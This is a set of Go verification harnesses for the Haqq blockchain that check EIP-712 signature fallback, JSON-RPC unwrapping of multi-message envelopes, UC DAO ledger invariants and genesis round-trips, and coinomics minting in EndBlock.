// Harness for property C03 at the key type every Haqq account uses: PubKey.VerifySignature accepts a signature over the
// sign bytes themselves, over their current EIP-712 rendering, or over the legacy EIP-712 rendering. The current decoder
// refuses sign docs it cannot cover completely (a fee payer or granter in a SIGN_MODE_DIRECT document: fix 4bd3a48); the
// legacy decoder has no such check of its own. A document the current decoder refuses must therefore never be accepted
// through the legacy layout - otherwise the refused field can be changed under an existing signature.

import (
	"errors"

	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/haqq-network/haqq/ethereum/eip712.GetEIP712BytesForMsg -> c03Current
//verif:override github.com/haqq-network/haqq/ethereum/eip712.LegacyGetEIP712BytesForMsg -> c03Legacy
//verif:override (github.com/haqq-network/haqq/crypto/ethsecp256k1.PubKey).verifySignatureECDSA -> c03ECDSA

var c03 struct {
	currentRefuses, legacyRefuses bool
	signed                         string // the bytes the holder of the key signed
}

func c03Current(msg []byte) ([]byte, error) {
	if c03.currentRefuses {
		return nil, errors.New("sign doc not fully covered by the typed data")
	}
	return append([]byte("current:"), msg...), nil
}
func c03Legacy(msg []byte) ([]byte, error) {
	if c03.legacyRefuses {
		return nil, errors.New("legacy decoding failed")
	}
	return append([]byte("legacy:"), msg...), nil
}

// ECDSA: the signature verifies exactly over the bytes that were signed
func c03ECDSA(pk PubKey, msg, sig []byte) bool { return string(msg) == c03.signed }

func VerifC03_Eip712FallbackOrder() {
	doc := []byte("sign-doc")
	c03.currentRefuses = zz.AnyBool("currentDecoderRefuses")
	c03.legacyRefuses = zz.AnyBool("legacyDecoderRefuses")
	what := zz.Choose("signedOver", 4)
	c03.signed = []string{"sign-doc", "current:sign-doc", "legacy:sign-doc", "something else"}[what]
	ok := PubKey{Key: []byte{2}}.VerifySignature(doc, []byte("sig"))
	switch what {
	case 0:
		zz.Assert(ok, "a signature over the sign bytes themselves verifies")
	case 1:
		zz.Assert(ok == !c03.currentRefuses, "a signature over the current EIP-712 rendering verifies exactly when the current decoder accepts the document")
	case 2:
		zz.Assert(zz.Implies(c03.currentRefuses, !ok), "a document the current EIP-712 decoder refuses is never accepted through the legacy layout")
		zz.Assert(zz.Implies(!c03.currentRefuses && !c03.legacyRefuses, ok), "a legacy-layout signature of a document both decoders accept verifies")
	default:
		zz.Assert(!ok, "a signature over anything else is rejected")
	}
	zz.Reach("end")
}
