package backend

// Harness for property C18 at the read side: the JSON-RPC block queries (eth_getBlockBy*, transaction counts, the fallback
// searches behind eth_getTransactionByHash / eth_getTransactionReceipt) decode every Cosmos envelope of a block and unwrap
// the Ethereum messages in it. The chain accepts envelopes with several MsgEthereumTx (every ante decorator loops over
// them), so unwrapping returns every wrapped transaction, in order, each with its own hash recorded.

import (
	"math/big"

	abci "github.com/cometbft/cometbft/abci/types"
	tmrpctypes "github.com/cometbft/cometbft/rpc/core/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/client"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c18Envelope struct{ msgs []sdk.Msg }

func (e c18Envelope) GetMsgs() []sdk.Msg   { return e.msgs }
func (e c18Envelope) ValidateBasic() error { return nil }

// the transaction decoder: protobuf decoding is codec machinery; the bytes of envelope i are {i}
type c18TxCfg struct {
	client.TxConfig
	envelopes []c18Envelope
}

func (c c18TxCfg) TxDecoder() sdk.TxDecoder {
	return func(bz []byte) (sdk.Tx, error) { return c.envelopes[bz[0]], nil }
}

func VerifC18_BlockUnwrapsEveryMessage() {
	to := common.HexToAddress("0xAbCdEf0123456789abcdef0123456789ABCDEF01")
	mk := func(nonce uint64) *ethtypes.Transaction {
		switch nonce % 3 {
		case 0:
			return ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: nonce, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(27), R: big.NewInt(1), S: big.NewInt(1)})
		case 1:
			return ethtypes.NewTx(&ethtypes.AccessListTx{ChainID: big.NewInt(11235), Nonce: nonce, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)})
		default:
			return ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: big.NewInt(11235), Nonce: nonce, GasTipCap: big.NewInt(1), GasFeeCap: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)})
		}
	}
	cfg := c18TxCfg{}
	var want []common.Hash
	var txs tmtypes.Txs
	var results []*abci.ResponseDeliverTx
	nonce := uint64(0)
	nEnv := 1 + zz.Choose("envelopes", 2)
	for e := 0; e < nEnv; e++ {
		env := c18Envelope{}
		n := 1 + zz.Choose("messages"+string(rune('0'+e)), 3)
		for i := 0; i < n; i++ {
			if zz.Choose("kind"+string(rune('0'+e))+string(rune('0'+i)), 4) == 3 {
				env.msgs = append(env.msgs, &banktypes.MsgSend{}) // something else in the envelope
				continue
			}
			tx := mk(nonce)
			nonce++
			m := &evmtypes.MsgEthereumTx{}
			if err := m.FromEthereumTx(tx); err != nil {
				panic(err)
			}
			m.Hash = "" // as decoded from the wire by a client that did not fill it in
			env.msgs = append(env.msgs, m)
			want = append(want, tx.Hash())
		}
		cfg.envelopes = append(cfg.envelopes, env)
		txs = append(txs, tmtypes.Tx{byte(e)})
		results = append(results, &abci.ResponseDeliverTx{Code: 0})
	}
	b := &Backend{clientCtx: client.Context{TxConfig: cfg}}
	got := b.EthMsgsFromTendermintBlock(&tmrpctypes.ResultBlock{Block: &tmtypes.Block{Data: tmtypes.Data{Txs: txs}}}, &tmrpctypes.ResultBlockResults{TxsResults: results})
	zz.Assert(len(got) == len(want), "unwrapping a block returns every Ethereum transaction wrapped in its envelopes, not only the first of each")
	for i := range got {
		if i < len(want) {
			zz.Assert(got[i].AsTransaction().Hash() == want[i], "the unwrapped transactions come in block order and are the wrapped ones")
			zz.Assert(got[i].Hash == want[i].Hex(), "every unwrapped message records its own Ethereum hash")
		}
	}
	zz.Reach("end")
}
