package keeper

// Harness for property C19 (genesis export/import), UC DAO module.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/x/ucdao/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func c19Keeper() (BaseKeeper, sdk.Context) {
	env := zz.NewEnv([]string{"ucdao"}, nil)
	return BaseKeeper{cdc: zz.Codec(), storeKey: env.Key("ucdao")}, env.Ctx
}

// VerifC19_Ucdao: Export(Init(Export(S))) = Export(S) for an arbitrary ledger S over N accounts x 2 or 3 denominations.
func VerifC19_Ucdao() {
	k1, ctx1 := c19Keeper()
	if err := k1.SetParams(ctx1, types.Params{EnableDao: zz.AnyBool("enable")}); err != nil {
		panic(err)
	}
	n := zz.ParamInt("accounts", 2)
	c12Denoms = []string{"aISLM", "aLIQUID1"}
	if zz.ParamInt("denoms", 2) == 3 {
		// more denominations than one (scaled) default page of a paginated read
		c12Denoms = []string{"aISLM", "aLIQUID1", "aLIQUID2"}
	}
	defer func() { c12Denoms = []string{"aISLM", "aLIQUID1"} }()
	var tot []sdk.Coin
	for _, d := range c12Denoms {
		tot = append(tot, sdk.NewCoin(d, sdk.ZeroInt()))
	}
	for i := 0; i < n; i++ {
		for j, d := range c12Denoms {
			b := zz.AnyAmount("bal."+string(rune('A'+i))+"."+d, 100)
			if err := k1.setBalance(ctx1, c12Addr(i), sdk.NewCoin(d, b)); err != nil {
				panic(err)
			}
			tot[j] = tot[j].AddAmount(b)
		}
		k1.setHoldersIndex(ctx1, c12Addr(i))
	}
	for _, c := range tot {
		k1.setTotalBalanceOfCoin(ctx1, c)
	}
	g1 := k1.ExportGenesis(ctx1)

	k2, ctx2 := c19Keeper()
	k2.InitGenesis(ctx2, g1)
	g2 := k2.ExportGenesis(ctx2)

	zz.Assert(g2.Params.EnableDao == g1.Params.EnableDao, "parameters survive")
	zz.Assert(zz.CoinsEq(g2.TotalBalance, g1.TotalBalance), "total balance survives")
	zz.Assert(len(g2.Balances) == len(g1.Balances), "no holder is dropped or invented")
	for i := range g1.Balances {
		zz.Assert(g2.Balances[i].Address == g1.Balances[i].Address && zz.CoinsEq(g2.Balances[i].Coins, g1.Balances[i].Coins), "every holder's balance survives")
	}
	for i := 0; i < n; i++ {
		for _, d := range c12Denoms {
			b1, b2 := k1.GetBalance(ctx1, c12Addr(i), d).Amount, k2.GetBalance(ctx2, c12Addr(i), d).Amount
			zz.ObserveInt("bal."+string(rune('A'+i))+"."+d, b2)
			zz.Assert(b1.Equal(b2), "GetBalance answers identically")
		}
	}
	for _, d := range c12Denoms {
		zz.Assert(k1.GetTotalBalanceOf(ctx1, d).Amount.Equal(k2.GetTotalBalanceOf(ctx2, d).Amount), "GetTotalBalanceOf answers identically")
	}
	zz.Reach("end")
}

// VerifC12_GenesisDerivesTotal: total_balance is optional in the DAO genesis - InitGenesis derives the recorded total from
// the listed balances and only cross-checks the field when it is present. A genesis that lists balances and omits the field
// must import into a ledger whose recorded total is the sum of the holders, like one that carries it.
func VerifC12_GenesisDerivesTotal() {
	n := zz.ParamInt("accounts", 2)
	c12Denoms = []string{"aISLM", "aLIQUID1"}
	var bals []types.Balance
	sum := map[string]sdk.Int{"aISLM": sdk.ZeroInt(), "aLIQUID1": sdk.ZeroInt()}
	for i := 0; i < n; i++ {
		coins := sdk.NewCoins()
		for _, d := range c12Denoms {
			b := zz.AnyAmount("bal."+string(rune('A'+i))+"."+d, 100)
			coins = coins.Add(sdk.NewCoin(d, b))
			sum[d] = sum[d].Add(b)
		}
		bals = append(bals, types.Balance{Address: c12Addr(i).String(), Coins: coins})
	}
	total := sdk.NewCoins(sdk.NewCoin("aISLM", sum["aISLM"]), sdk.NewCoin("aLIQUID1", sum["aLIQUID1"]))
	g := &types.GenesisState{Params: types.Params{EnableDao: true}, Balances: bals}
	if zz.AnyBool("genesisCarriesTotal") {
		g.TotalBalance = total
	}
	k, ctx := c19Keeper()
	k.InitGenesis(ctx, g)
	for _, d := range c12Denoms {
		zz.ObserveInt("recordedTotal."+d, k.GetTotalBalanceOf(ctx, d).Amount)
		zz.Assert(k.GetTotalBalanceOf(ctx, d).Amount.Equal(sum[d]), "after genesis import the recorded DAO total is the sum of the listed holders' balances, whether or not the genesis carries total_balance")
	}
	zz.Reach("end")
}
