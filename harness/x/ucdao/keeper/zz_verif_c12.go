package keeper

// Harness for property C12 (UC DAO ledger): one arbitrary message from an arbitrary ledger state satisfying the invariant
// (inductive step: covers histories of any length).

import (
	"errors"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/address"

	"github.com/haqq-network/haqq/x/ucdao/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

// the denomination universe; with the harness parameter prefix=1 the two denominations are string-prefix related
// (aLIQUID1 / aLIQUID10), which is what store keys built from raw denominations are sensitive to
var c12Denoms = []string{"aISLM", "aLIQUID1"}

func c12PickDenoms() {
	if zz.ParamInt("prefix", 0) == 1 {
		c12Denoms = []string{"aLIQUID1", "aLIQUID10"}
	} else {
		c12Denoms = []string{"aISLM", "aLIQUID1"}
	}
}

// c12Addr: account i. With the harness parameter longaddr=1 account 1 is a 32-byte address (module-derived / interchain
// accounts are) whose last 20 bytes are account 0's address: distinct accounts that a 20-byte view would confuse. With
// longaddr=2 all accounts are 32-byte addresses that share their first 20 bytes.
func c12Addr(i int) sdk.AccAddress {
	b := make([]byte, 20)
	b[0] = byte(0xA0 + i)
	b[19] = byte(i + 1)
	if zz.ParamInt("longaddr", 0) == 2 {
		// every account is a 32-byte address and all of them agree on their first 20 bytes
		l := make([]byte, 32)
		copy(l, []byte("same-first-20-bytes!"))
		l[31] = byte(i + 1)
		return sdk.AccAddress(l)
	}
	if i == 1 && zz.ParamInt("longaddr", 0) == 1 {
		return sdk.AccAddress(append([]byte("derived-acct"), c12Addr(0)...))
	}
	return sdk.AccAddress(b)
}

// c12Bank: coins move exactly as asked; insufficient funds are refused.
type c12Bank struct {
	acc    map[string]map[string]sdkmath.Int // account (bech32) -> denom -> amount
	module map[string]sdkmath.Int            // DAO module account: denom -> amount
}

func (b *c12Bank) get(a, d string) sdkmath.Int {
	if m, ok := b.acc[a]; ok {
		if v, ok := m[d]; ok {
			return v
		}
	}
	return sdkmath.ZeroInt()
}
func (b *c12Bank) mod(d string) sdkmath.Int {
	if v, ok := b.module[d]; ok {
		return v
	}
	return sdkmath.ZeroInt()
}
func (b *c12Bank) BlockedAddr(addr sdk.AccAddress) bool { return false }
func (b *c12Bank) GetAllBalances(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b *c12Bank) SpendableCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b *c12Bank) SendCoinsFromModuleToModule(ctx sdk.Context, senderModule string, recipientModule string, amt sdk.Coins) error {
	panic("not used")
}
func (b *c12Bank) SendCoinsFromModuleToAccount(ctx sdk.Context, senderModule string, recipientAddr sdk.AccAddress, amt sdk.Coins) error {
	panic("not used")
}
func (b *c12Bank) SendCoinsFromAccountToModule(ctx sdk.Context, senderAddr sdk.AccAddress, recipientModule string, amt sdk.Coins) error {
	if recipientModule != types.ModuleName {
		panic("unexpected module " + recipientModule)
	}
	a := senderAddr.String()
	for _, d := range c12Denoms {
		if b.get(a, d).LT(amt.AmountOf(d)) {
			return errors.New("insufficient funds")
		}
	}
	for _, d := range c12Denoms {
		x := amt.AmountOf(d)
		if _, ok := b.acc[a]; !ok {
			b.acc[a] = map[string]sdkmath.Int{}
		}
		b.acc[a][d] = b.get(a, d).Sub(x)
		b.module[d] = b.mod(d).Add(x)
	}
	return nil
}

type c12State struct {
	k    BaseKeeper
	ctx  sdk.Context
	bank *c12Bank
	n    int
	bal  [][]sdkmath.Int // [account][denom]
	tot  []sdkmath.Int
}

// c12Setup writes an arbitrary ledger satisfying the invariant through the keeper's own setters.
func c12Setup() *c12State {
	c12PickDenoms()
	env := zz.NewEnv([]string{"ucdao"}, nil)
	bank := &c12Bank{acc: map[string]map[string]sdkmath.Int{}, module: map[string]sdkmath.Int{}}
	k := BaseKeeper{cdc: zz.Codec(), storeKey: env.Key("ucdao"), bk: bank}
	ctx := env.Ctx
	if err := k.SetParams(ctx, types.Params{EnableDao: true}); err != nil {
		panic(err)
	}
	n := zz.ParamInt("accounts", 2)
	st := &c12State{k: k, ctx: ctx, bank: bank, n: n}
	st.tot = []sdkmath.Int{sdkmath.ZeroInt(), sdkmath.ZeroInt()}
	for i := 0; i < n; i++ {
		row := make([]sdkmath.Int, len(c12Denoms))
		for j, d := range c12Denoms {
			b := zz.AnyAmount("bal."+string(rune('A'+i))+"."+d, 100)
			row[j] = b
			if err := k.setBalance(ctx, c12Addr(i), sdk.NewCoin(d, b)); err != nil {
				panic(err)
			}
			st.tot[j] = st.tot[j].Add(b)
			// wallet (bank) funds of the account, unrelated to its DAO share
			if _, ok := bank.acc[c12Addr(i).String()]; !ok {
				bank.acc[c12Addr(i).String()] = map[string]sdkmath.Int{}
			}
			bank.acc[c12Addr(i).String()][d] = zz.AnyAmount("wallet."+string(rune('A'+i))+"."+d, 100)
		}
		st.bal = append(st.bal, row)
		k.setHoldersIndex(ctx, c12Addr(i))
	}
	for j, d := range c12Denoms {
		k.setTotalBalanceOfCoin(ctx, sdk.NewCoin(d, st.tot[j]))
		bank.module[d] = st.tot[j]
	}
	return st
}

// c12CheckInv: for every denomination sum of shares = recorded total = module funds; indexes list exactly the non-zero entries.
func c12CheckInv(st *c12State, exp [][]sdkmath.Int) {
	for j, d := range c12Denoms {
		sum := sdkmath.ZeroInt()
		for i := 0; i < st.n; i++ {
			got := st.k.GetBalance(st.ctx, c12Addr(i), d).Amount
			zz.ObserveInt("bal."+string(rune('A'+i))+"."+d, got)
			zz.Assert(got.Equal(exp[i][j]), "every share has exactly the expected value (only the named amount moved, nobody else touched)")
			sum = sum.Add(got)
			inDenomIndex := st.k.getDenomAddressPrefixStore(st.ctx, d).Has(address.MustLengthPrefix(c12Addr(i)))
			zz.Assert(zz.Iff(inDenomIndex, got.IsPositive()), "denomination index lists exactly the holders of that denomination")
		}
		tot := st.k.GetTotalBalanceOf(st.ctx, d).Amount
		zz.Assert(sum.Equal(tot), "sum of shares equals the recorded DAO total")
		zz.Assert(tot.Equal(st.bank.mod(d)), "recorded DAO total equals the coins held by the DAO module account")
	}
	for i := 0; i < st.n; i++ {
		has := st.k.getHoldersStore(st.ctx).Has(address.MustLengthPrefix(c12Addr(i)))
		nonzero := exp[i][0].IsPositive() || exp[i][1].IsPositive()
		zz.Assert(zz.Iff(has, nonzero), "holder index lists exactly the accounts with a non-zero balance")
	}
}

func c12Copy(b [][]sdkmath.Int) [][]sdkmath.Int {
	out := make([][]sdkmath.Int, len(b))
	for i := range b {
		out[i] = append([]sdkmath.Int{}, b[i]...)
	}
	return out
}

// c12AnyRawCoins: an arbitrary message amount as a literal coin list (entries may be zero or negative: ValidateBasic must cope).
func c12AnyRawCoins(tag string) sdk.Coins {
	switch zz.Choose(tag+".shape", 6) {
	case 4: // the same denomination twice (not a valid Coins value; only a hand-built message can carry it)
		return sdk.Coins{sdk.Coin{Denom: c12Denoms[0], Amount: zz.AnySdkInt(tag + "." + c12Denoms[0])}, sdk.Coin{Denom: c12Denoms[0], Amount: zz.AnySdkInt(tag + "." + c12Denoms[0] + "2")}}
	case 5: // unsorted
		return sdk.Coins{sdk.Coin{Denom: c12Denoms[1], Amount: zz.AnySdkInt(tag + "." + c12Denoms[1])}, sdk.Coin{Denom: c12Denoms[0], Amount: zz.AnySdkInt(tag + "." + c12Denoms[0])}}
	case 0:
		return sdk.Coins{}
	case 1:
		return sdk.Coins{sdk.Coin{Denom: c12Denoms[0], Amount: zz.AnySdkInt(tag + "." + c12Denoms[0])}}
	case 2:
		return sdk.Coins{sdk.Coin{Denom: c12Denoms[1], Amount: zz.AnySdkInt(tag + "." + c12Denoms[1])}}
	}
	return sdk.Coins{sdk.Coin{Denom: c12Denoms[0], Amount: zz.AnySdkInt(tag + "." + c12Denoms[0])}, sdk.Coin{Denom: c12Denoms[1], Amount: zz.AnySdkInt(tag + "." + c12Denoms[1])}}
}

// VerifC12_Fund: a deposit credits the depositor with exactly the deposit and keeps the invariant.
func VerifC12_Fund() {
	st := c12Setup()
	c12CheckInv(st, st.bal) // the constructed pre-state satisfies the invariant (sanity of the harness)
	who := zz.Choose("depositor", st.n)
	amt := c12AnyRawCoins("amount")
	wallet0 := []sdkmath.Int{st.bank.get(c12Addr(who).String(), c12Denoms[0]), st.bank.get(c12Addr(who).String(), c12Denoms[1])}
	srv := NewMsgServerImpl(st.k)
	msg := &types.MsgFund{Depositor: c12Addr(who).String(), Amount: amt}
	if msg.ValidateBasic() != nil { // stateless validation runs before any handler
		zz.Reach("?rejected-by-validation")
		return
	}
	_, err := srv.Fund(sdk.WrapSDKContext(st.ctx), msg)
	if err != nil {
		// a failed message is rolled back by the SDK (state changes of a failing handler are discarded)
		zz.Reach("rejected")
		return
	}
	exp := c12Copy(st.bal)
	for j, d := range c12Denoms {
		exp[who][j] = exp[who][j].Add(amt.AmountOf(d))
		zz.Assert(st.bank.get(c12Addr(who).String(), d).Equal(wallet0[j].Sub(amt.AmountOf(d))), "the depositor paid exactly the deposit")
	}
	c12CheckInv(st, exp)
	zz.Reach("end")
}

// VerifC12_Transfer: an ownership transfer (full / by ratio / by amount) moves exactly the stated amount from the signer's
// own balance to the recipient - including sender = recipient - and keeps the invariant.
func VerifC12_Transfer() {
	st := c12Setup()
	owner := zz.Choose("owner", st.n)
	newOwner := zz.Choose("newOwner", st.n)
	srv := NewMsgServerImpl(st.k)
	goCtx := sdk.WrapSDKContext(st.ctx)
	moved := []sdkmath.Int{sdkmath.ZeroInt(), sdkmath.ZeroInt()}
	var err error
	switch zz.Choose("kind", 3) {
	case 0:
		_, err = srv.TransferOwnership(goCtx, &types.MsgTransferOwnership{Owner: c12Addr(owner).String(), NewOwner: c12Addr(newOwner).String()})
		moved = []sdkmath.Int{st.bal[owner][0], st.bal[owner][1]}
	case 1:
		ratio := zz.AnyDecRaw("ratio", "-1000000000000000000", "2000000000000000000")
		_, err = srv.TransferOwnershipWithRatio(goCtx, &types.MsgTransferOwnershipWithRatio{Owner: c12Addr(owner).String(), NewOwner: c12Addr(newOwner).String(), Ratio: ratio})
		if err == nil {
			zz.Assert(ratio.IsPositive() && ratio.LTE(sdkmath.LegacyOneDec()), "only ratios in (0,1] are accepted")
		}
		moved = []sdkmath.Int{st.bal[owner][0].ToLegacyDec().Mul(ratio).TruncateInt(), st.bal[owner][1].ToLegacyDec().Mul(ratio).TruncateInt()}
	default:
		amt := c12AnyRawCoins("amount")
		msg := &types.MsgTransferOwnershipWithAmount{Owner: c12Addr(owner).String(), NewOwner: c12Addr(newOwner).String(), Amount: amt}
		if msg.ValidateBasic() != nil { // stateless validation runs before any handler
			zz.Reach("?rejected-by-validation")
			return
		}
		_, err = srv.TransferOwnershipWithAmount(goCtx, msg)
		if err == nil {
			zz.Assert(amt.IsValid(), "an accepted amount is a well-formed coin list (sorted, unique denominations, positive)")
		}
		moved = []sdkmath.Int{amt.AmountOf(c12Denoms[0]), amt.AmountOf(c12Denoms[1])}
	}
	if err != nil {
		zz.Reach("rejected")
		return
	}
	exp := c12Copy(st.bal)
	for j := range c12Denoms {
		zz.Assert(moved[j].LTE(st.bal[owner][j]) && !moved[j].IsNegative(), "a transfer never exceeds the signer's own balance")
		exp[owner][j] = exp[owner][j].Sub(moved[j])
		exp[newOwner][j] = exp[newOwner][j].Add(moved[j])
	}
	c12CheckInv(st, exp)
	zz.Reach("end")
}
