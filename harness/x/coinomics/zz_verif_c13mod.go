package coinomics

// Harness for property C13 at the module boundary: the application calls AppModule.EndBlock, the mint step and the block
// clock live in the keeper's EndBlocker. The module's EndBlock has exactly the effect of the keeper's end blocker on every
// state - in particular it reaches the keeper in every block, also when a block mints nothing (coefficient 0, minting
// disabled), because the keeper is also what keeps the previous-block timestamp current.

import (
	"time"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/x/coinomics/keeper"
	"github.com/haqq-network/haqq/x/coinomics/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c13mBank struct {
	supply sdkmath.Int
	minted *sdkmath.Int
}

func (b c13mBank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, sdkmath.ZeroInt())
}
func (b c13mBank) GetAllBalances(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { return nil }
func (b c13mBank) SendCoinsFromModuleToAccount(ctx sdk.Context, m string, to sdk.AccAddress, amt sdk.Coins) error {
	return nil
}
func (b c13mBank) SendCoinsFromModuleToModule(ctx sdk.Context, from, to string, amt sdk.Coins) error {
	return nil
}
func (b c13mBank) MintCoins(ctx sdk.Context, name string, amt sdk.Coins) error {
	*b.minted = b.minted.Add(amt.AmountOf("aISLM"))
	return nil
}
func (b c13mBank) BurnCoins(ctx sdk.Context, name string, amt sdk.Coins) error { return nil }
func (b c13mBank) HasSupply(ctx sdk.Context, denom string) bool                { return true }
func (b c13mBank) GetSupply(ctx sdk.Context, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.supply.Add(*b.minted))
}

type c13mStaking struct{ bonded sdkmath.Int }

func (s c13mStaking) BondedRatio(ctx sdk.Context) sdk.Dec            { return sdk.ZeroDec() }
func (s c13mStaking) StakingTokenSupply(ctx sdk.Context) sdkmath.Int { return s.bonded }
func (s c13mStaking) TotalBondedTokens(ctx sdk.Context) sdkmath.Int  { return s.bonded }

func VerifC13_ModuleEndBlock() {
	now := zz.AnyInt64In("nowMs", 1700000000000, 1700000000000+(int64(1)<<36))
	p := types.Params{MintDenom: "aISLM", EnableCoinomics: zz.AnyBool("enable"), RewardCoefficient: zz.AnyDecRaw("rewardCoefficient", "0", "100000000000000000000")}
	supply, bonded, max := zz.AnyAmount("supply", 90), zz.AnyAmount("bonded", 90), zz.AnyAmount("maxSupply", 90)
	prev := zz.AnyAmount("prevTS", 41)
	zz.Assume(prev.LTE(sdkmath.NewInt(now)))
	type world struct {
		k      keeper.Keeper
		ctx    sdk.Context
		minted *sdkmath.Int
	}
	mk := func() world {
		env := zz.NewEnv([]string{"coinomics"}, nil)
		ps := zz.NewSubspace(env, "coinomics", types.ParamKeyTable)
		m := sdkmath.ZeroInt()
		k := keeper.NewKeeper(env.Key("coinomics"), zz.Codec(), ps, c19AK{}, c13mBank{supply: supply, minted: &m}, nil, c13mStaking{bonded: bonded}, "fee_collector")
		ctx := env.Ctx.WithBlockTime(time.UnixMilli(now))
		k.SetParams(ctx, p)
		k.SetMaxSupply(ctx, sdk.NewCoin("aISLM", max))
		if !prev.IsZero() {
			k.SetPrevBlockTS(ctx, prev)
		}
		return world{k: k, ctx: ctx, minted: &m}
	}
	a, b := mk(), mk()
	a.k.EndBlocker(a.ctx)                                          // the keeper's end blocker
	AppModule{keeper: b.k}.EndBlock(b.ctx, abci.RequestEndBlock{}) // what the application calls
	zz.Assert(b.minted.Equal(*a.minted), "the module's EndBlock mints what the keeper's end blocker mints")
	zz.Assert(b.k.GetPrevBlockTS(b.ctx).Equal(a.k.GetPrevBlockTS(a.ctx)), "the module's EndBlock keeps the block clock exactly as the keeper's end blocker does (every block reaches the keeper)")
	zz.Assert(b.k.GetParams(b.ctx).EnableCoinomics == a.k.GetParams(a.ctx).EnableCoinomics, "the enabled flag ends the same")
	if p.RewardCoefficient.IsZero() {
		zz.Reach("?zero-coefficient")
	}
	zz.Reach("end")
}
