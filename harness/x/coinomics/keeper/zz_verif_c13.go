package keeper

// Harnesses for property C13 (coinomics mint formula and cap).

import (
	"errors"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	paramtypes "github.com/cosmos/cosmos-sdk/x/params/types"

	"github.com/haqq-network/haqq/x/coinomics/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

// c13Bank is the bank stub: it moves coins exactly as asked and conserves supply by construction, so every
// supply change seen by the harness was requested by the coinomics code.
type c13Bank struct {
	supply  sdkmath.Int
	bal     map[string]sdkmath.Int // module name -> aISLM balance
	minted  sdkmath.Int
	mintOps int
}

func (b *c13Bank) get(m string) sdkmath.Int {
	if v, ok := b.bal[m]; ok {
		return v
	}
	return sdkmath.ZeroInt()
}
func (b *c13Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, sdkmath.ZeroInt())
}
func (b *c13Bank) GetAllBalances(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { return sdk.NewCoins() }
func (b *c13Bank) SendCoinsFromModuleToAccount(ctx sdk.Context, senderModule string, recipientAddr sdk.AccAddress, amt sdk.Coins) error {
	panic("not used by the code under test")
}
func (b *c13Bank) SendCoinsFromModuleToModule(ctx sdk.Context, senderModule, recipientModule string, amt sdk.Coins) error {
	a := amt.AmountOf("aISLM")
	if b.get(senderModule).LT(a) {
		return errInsufficient
	}
	b.bal[senderModule] = b.get(senderModule).Sub(a)
	b.bal[recipientModule] = b.get(recipientModule).Add(a)
	return nil
}
func (b *c13Bank) MintCoins(ctx sdk.Context, name string, amt sdk.Coins) error {
	a := amt.AmountOf("aISLM")
	b.supply = b.supply.Add(a)
	b.bal[name] = b.get(name).Add(a)
	b.minted = b.minted.Add(a)
	b.mintOps++
	return nil
}
func (b *c13Bank) BurnCoins(ctx sdk.Context, name string, amt sdk.Coins) error { panic("not used") }
func (b *c13Bank) HasSupply(ctx sdk.Context, denom string) bool                 { return true }
func (b *c13Bank) GetSupply(ctx sdk.Context, denom string) sdk.Coin             { return sdk.NewCoin(denom, b.supply) }

type c13Staking struct{ bonded sdkmath.Int }

func (s c13Staking) BondedRatio(ctx sdk.Context) sdk.Dec             { panic("not used") }
func (s c13Staking) StakingTokenSupply(ctx sdk.Context) sdkmath.Int  { panic("not used") }
func (s c13Staking) TotalBondedTokens(ctx sdk.Context) sdkmath.Int   { return s.bonded }

type c13Env struct {
	k      Keeper
	ctx    sdk.Context
	bank   *c13Bank
	params types.Params
	prev   sdkmath.Int
	nowMs  int64
	bonded sdkmath.Int
	max    sdkmath.Int
}

const (
	c13MinMs = int64(0)              // 1970-01-01
	c13MaxMs = int64(13569465600000) // 2400-01-01 (the static year table of the time theory ends in 2400)
)

func c13Setup(enable bool) *c13Env { return c13SetupCoef(enable, "0") }

// c13SetupCoef: lo is the lower end of the reward coefficient's range (the upper end is 100).
func c13SetupCoef(enable bool, lo string) *c13Env {
	env := zz.NewEnv([]string{"coinomics"}, nil)
	bank := &c13Bank{supply: zz.AnyAmount("supply", 100), bal: map[string]sdkmath.Int{}, minted: sdkmath.ZeroInt()}
	st := c13Staking{bonded: zz.AnyAmount("bonded", 100)}
	ps := zz.NewSubspace(env, "coinomics", types.ParamKeyTable)
	k := Keeper{storeKey: env.Key("coinomics"), cdc: zz.Codec(), paramstore: ps, bankKeeper: bank, stakingKeeper: st, feeCollectorName: "fee_collector"}
	p := types.Params{MintDenom: "aISLM", EnableCoinomics: enable, RewardCoefficient: zz.AnyDecRaw("rewardCoefficient", lo, "100000000000000000000")}
	nowMs := c13AnyBlockTime("nowMs", "year")
	ctx := env.Ctx.WithBlockTime(time.UnixMilli(nowMs))
